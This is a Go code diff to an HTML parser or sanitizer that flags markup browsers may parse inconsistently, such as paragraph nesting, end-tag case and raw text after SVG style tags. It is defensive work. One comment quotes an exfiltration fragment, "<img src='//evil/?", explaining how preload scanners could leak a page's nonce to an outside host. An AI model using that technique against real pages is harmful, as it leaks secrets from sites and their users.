@@ -14,6 +14,7 @@ type tree struct {
 	selects   bool      // inside <select>
 	templates int       // depth of <template> in plain HTML
 	tables    bool      // a <table> was seen in plain HTML
+	scanned   bool      // the last tag is one that a preload scanner reads as raw text
 	text      bool      // text was seen in plain HTML, so the body has begun (§13.2.6.4.7, frameset-ok)
 	doubts    doubt
 }
@@ -75,6 +76,7 @@ func (e *element) integrationPoint() bool {
 // startTag notes a start tag. It returns the namespace that the element gets, and
 // whether the tree builder ignores the tag.
 func (t *tree) startTag(name []byte, k kind, tag *startTag, tok []byte) (ns namespace, ignored bool) {
+	t.markup()
 	if len(t.open) > 0 && !t.htmlRules() {
 		return t.foreignStartTag(name, k, tag, tok), false
 	}
@@ -108,9 +110,12 @@ func (t *tree) startTag(name []byte, k kind, tag *startTag, tok []byte) (ns name
 		t.tableTag(name)
 	}
 	if len(t.open) > 0 {
-		switch string(name) {
-		case "mglyph", "malignmark":
+		switch {
+		case string(name) == "mglyph", string(name) == "malignmark":
 			t.doubt(doubtGlyph)
+		case closesParagraph(name) && t.inParagraph():
+			// Its </p> finds none: it breaks out in Firefox, in others it does not.
+			t.doubt(doubtNesting)
 		}
 		switch k {
 		case void, link, meta, base:
@@ -125,6 +130,9 @@ func (t *tree) startTag(name []byte, k kind, tag *startTag, tok []byte) (ns name
 
 // tableTag notes the start tag of a table or of one of its parts.
 func (t *tree) tableTag(name []byte) {
+	if t.doubts != certain {
+		return // there is nothing left to learn, and the search may be long
+	}
 	if len(t.open) == 0 {
 		if t.templates > 0 && (string(name) == "col" || string(name) == "colgroup") {
 			// "in column group" without a colgroup ignores start tags, raw text or not.
@@ -170,8 +178,36 @@ func (t *tree) foreignStartTag(name []byte, k kind, tag *startTag, tok []byte) n
 	if !tag.selfClosing {
 		t.push(name, ns)
 	}
+	if readAsRawText(name) {
+		if t.scanned = true; tag.selfClosing {
+			t.markup()
+		}
+	}
 	return ns
 }
+
+// markup notes a tag or a comment. After the start tag of a <style> in SVG, the preload
+// scanners of Chromium and WebKit, which know nothing of the tree, read raw text up to
+// its end tag. They would find "<img src='//evil/?" where the page has a comment, and
+// send off what follows, nonce and all, as the address of an image (CWE-200).
+func (t *tree) markup() {
+	if t.scanned {
+		t.scanned = false
+		t.doubt(doubtPreload)
+	}
+}
+
+// inParagraph reports whether a <p> is open since the last foreign element.
+func (t *tree) inParagraph() bool {
+	for i := len(t.open) - 1; i >= 0 && t.open[i].ns == inHTML; i-- {
+		if t.open[i].is(paragraph) {
+			return true
+		}
+	}
+	return false
+}
+
+var paragraph = []byte("p")
 
 func (t *tree) push(name []byte, ns namespace) {
 	switch {
@@ -186,6 +222,10 @@ func (t *tree) push(name []byte, ns namespace) {
 
 // endTag notes an end tag.
 func (t *tree) endTag(name []byte) {
+	if t.scanned && len(t.open) > 0 && t.open[len(t.open)-1].is(name) {
+		t.scanned = false
+	}
+	t.markup()
 	if len(t.open) == 0 {
 		switch string(name) {
 		case "select":
@@ -217,6 +257,11 @@ func (t *tree) endTag(name []byte) {
 			}
 			for i := len(t.open) - 1; i >= lowest && t.open[i].ns != inHTML; i-- {
 				if t.open[i].is(name) {
+					if t.open[i].ns != t.open[len(t.open)-1].ns {
+						// Chromium and WebKit give the end tag the case that names
+						// have where it stands, and then it is not this element's.
+						t.doubt(doubtNesting)
+					}
 					t.open = t.open[:i]
 					return
 				}
@@ -239,6 +284,28 @@ func (t *tree) endTag(name []byte) {
 func plainInSelect(name []byte) bool {
 	switch string(name) {
 	case "option", "optgroup", "hr", "select", "script":
+		return true
+	}
+	return false
+}
+
+// readAsRawText lists the start tags after which a tokenizer that does not know the
+// tree leaves the data state.
+func readAsRawText(name []byte) bool {
+	switch kindOf(name) {
+	case rawText, script, style, iframe, plaintext:
+		return true
+	}
+	return false
+}
+
+// closesParagraph lists the start tags that close an open <p>, §13.2.6.4.7.
+func closesParagraph(name []byte) bool {
+	switch string(name) {
+	case "address", "article", "aside", "blockquote", "center", "dd", "details", "dialog", "dir", "div", "dl", "dt",
+		"fieldset", "figcaption", "figure", "footer", "form", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hgroup", "hr",
+		"li", "listing", "main", "menu", "nav", "ol", "p", "plaintext", "pre", "search", "section", "summary", "table",
+		"ul", "xmp":
 		return true
 	}
 	return false
